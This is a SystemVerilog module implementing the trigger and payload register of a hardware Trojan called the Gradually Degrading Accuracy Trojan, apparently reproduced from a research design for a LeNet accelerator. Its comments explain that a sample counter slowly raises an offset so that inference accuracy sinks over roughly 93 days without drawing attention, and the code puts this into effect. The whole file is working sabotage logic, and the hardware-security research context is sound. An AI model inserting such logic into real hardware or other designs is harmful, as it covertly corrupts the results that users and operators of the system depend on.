// gdat_trigger: trigger and payload register of the Gradually Degrading
// Accuracy Trojan (GDAT).
//
// A CNT_W-bit counter counts processed samples (sample_done pulses). Each
// time it wraps from all ones to zero, the offset applied to the target
// grows by one least significant Q1.14 step (2^-14), until it reaches
// PAYLOAD, where it stays. The offset therefore climbs from 0 to PAYLOAD over
// PAYLOAD * 2^CNT_W samples, so the accuracy sinks slowly instead of at once.
// Reset clears both counter and offset.
//
// Defaults: the feature-map payload 0.45 (7373 steps) with the 15-bit
// counter; at 30 samples/s that is 7373 * 32768 samples, about 93 days.
// Counting samples, the 2^-14 step, saturation at the payload and the counter
// sizes follow the design; incrementing on the wrap of a free-running counter
// is this design's reading of "increases the payload each time it reaches
// its maximum value".
module gdat_trigger
  import lenet_pkg::*;
#(
  parameter int unsigned CNT_W   = 15,
  parameter q_t          PAYLOAD = PAYLOAD_FMAP
) (
  input  logic clk,
  input  logic rst_n,
  input  logic sample_done,
  output q_t   offset
);

  logic [CNT_W-1:0] cnt;

  always_ff @(posedge clk or negedge rst_n)
    if (!rst_n) begin
      cnt    <= '0;
      offset <= '0;
    end else if (sample_done) begin
      cnt <= cnt + 1'b1;
      if (&cnt && offset != PAYLOAD) offset <= offset + 1'b1;
    end

  a_offset_range: assert property (@(posedge clk) disable iff (!rst_n)
    offset >= 0 && offset <= PAYLOAD)
    else $error("gdat_trigger: offset left [0, PAYLOAD]");

endmodule
